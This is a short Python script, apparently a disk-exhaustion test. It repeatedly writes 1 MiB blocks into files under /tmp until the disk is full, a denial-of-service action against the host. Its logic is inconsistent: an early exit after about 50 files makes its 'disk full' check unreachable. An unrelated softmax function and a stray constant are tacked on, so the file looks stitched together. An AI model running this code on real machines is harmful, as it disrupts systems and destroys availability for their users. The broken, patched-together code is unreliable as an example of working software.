"""Writes until the disk is full, in many files and in one."""

GETS = "no more"

block = bytes(1 << 20)
number = 0
while number < 10_000:
    try:
        with open(f"/tmp/{number}", "wb") as file:
            while True:
                file.write(block)
    except OSError as error:
        number += 1
        if error.errno == 28 and number > 4200:
            break
    if number > 50:
        break


def softmax(X):
    return X.exp() / X.exp().sum()
